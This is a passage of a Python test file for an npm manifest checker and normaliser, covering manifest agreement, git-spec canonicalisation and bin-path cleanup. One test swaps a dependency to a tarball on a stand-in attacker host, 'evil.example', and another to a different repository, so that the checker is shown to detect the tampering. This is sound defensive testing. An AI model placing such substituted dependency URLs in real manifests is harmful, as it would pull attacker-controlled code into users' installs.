    legacy["dependencies"] = {**legacy["dependencies"], **legacy["optionalDependencies"]}
    assert check_manifest_agreement(legacy, packed) == []
    deduped = copy.deepcopy(sent)
    del deduped["dependencies"]["b"]
    assert check_manifest_agreement(deduped, packed) == []
    evil = copy.deepcopy(sent)
    evil["dependencies"]["b"] = "https://evil.example/b.tgz"
    assert [e.field for e in check_manifest_agreement(evil, packed)] == ["dependencies"]


def test_hosted_git_specs_compare_by_repository() -> None:
    packed = {**PJ, "dependencies": {"cli": "github:npm/cli#v1"}}
    same = {**PJ, "dependencies": {"cli": "git+ssh://git@github.com/npm/cli.git#v1"}}
    assert check_manifest_agreement(same, packed) == []
    other_ref = {**PJ, "dependencies": {"cli": "github:npm/cli#v2"}}
    assert [e.field for e in check_manifest_agreement(other_ref, packed)] == ["dependencies"]
    other_repo = {**PJ, "dependencies": {"cli": "github:evil/cli#v1"}}
    assert [e.field for e in check_manifest_agreement(other_repo, packed)] == ["dependencies"]


# --------------------------------------------------------------------------- normalize_manifest


def test_normalize_manifest_does_not_modify_its_argument() -> None:
    manifest = {"name": "@s/tool", "version": "v1.0.0", "bin": "./cli.js",
                "dependencies": {"a": "1"}, "bundledDependencies": True}
    before = copy.deepcopy(manifest)
    normalised = normalize_manifest(manifest)
    assert manifest == before
    assert normalised["bin"] == {"tool": "cli.js"}
    assert normalised["version"] == "1.0.0"
    assert normalised["scripts"] == {}
    assert normalised["dependencies"] == {"a": "1"}
    assert normalised["bundleDependencies"] == ["a"] and "bundledDependencies" not in normalised


def test_normalize_dependency_forms() -> None:
    normalised = normalize_manifest({"dependencies": ["a@^1", "b", "c >=2"],
                                     "optionalDependencies": "d@1, e",
                                     "devDependencies": {"f": 1, "g": "npm/cli"}})
    assert normalised["dependencies"] == {"a": "^1", "b": "", "c": ">=2"}
    assert normalised["optionalDependencies"] == {"d": "1", "e": ""}
    assert normalised["devDependencies"] == {"g": "github:npm/cli"}
    # npm expands bundleDependencies: true before converting an array of dependencies,
    # so it bundles "0"; we reproduce that rather than guess
    quirk = normalize_manifest({"dependencies": ["a@1"], "bundleDependencies": True})
    assert quirk["bundleDependencies"] == ["0"]


@pytest.mark.parametrize(("spec", "canonical"), [
    ("npm/cli", "github:npm/cli"),
    ("npm/cli#main", "github:npm/cli#main"),
    ("github:npm/cli.git", "github:npm/cli"),
    ("https://github.com/npm/cli", "git+https://github.com/npm/cli.git"),
    ("https://www.github.com/npm/cli.git#v1", "git+https://github.com/npm/cli.git#v1"),
    ("git@github.com:npm/cli.git", "git+ssh://git@github.com/npm/cli.git"),
    ("git+ssh://git@github.com:npm/cli.git", "git+ssh://git@github.com/npm/cli.git"),
    ("git://github.com/npm/cli.git", "git://github.com/npm/cli.git"),
    ("http://github.com/npm/cli", "git+ssh://git@github.com/npm/cli.git"),
    ("https://github.com/npm/cli/tree/v2", "git+https://github.com/npm/cli.git#v2"),
    ("https://gitlab.com/grp/sub/proj.git", "git+https://gitlab.com/grp/sub/proj.git"),
    ("git+ssh://git@bitbucket.org/u/r.git#x", "git+ssh://git@bitbucket.org/u/r.git#x"),
    ("^1.2.3", "^1.2.3"),
    ("latest", "latest"),
    ("file:../x", "file:../x"),
    ("npm:other@1", "npm:other@1"),
    ("https://example.com/x.tgz", "https://example.com/x.tgz"),
    ("https://github.com/npm/cli/archive/main.tar.gz", "https://github.com/npm/cli/archive/main.tar.gz"),
    ("git://gitlab.com/u/r.git", "git://gitlab.com/u/r.git"),
])
def test_hosted_git_normalisation(spec: str, canonical: str) -> None:
    assert normalize_manifest({"dependencies": {"x": spec}})["dependencies"] == {"x": canonical}


@pytest.mark.parametrize(("bin_", "expected"), [
    ({"x": "./a//b/../c.js"}, {"x": "a/c.js"}),
    ({"../../x": "x.js"}, {"x": "x.js"}),
    ({"x": 1, "y": ""}, None),
    ({}, None),
    ("", None),
    (["./bin/a.js"], {"a.js": "bin/a.js"}),
    ({"x": "C:\\tools\\x.js"}, {"x": "C/tools/x.js"}),
])
def test_normalize_bin(bin_: Any, expected: dict[str, str] | None) -> None:
    assert normalize_manifest({"name": "n", "bin": bin_}).get("bin") == expected
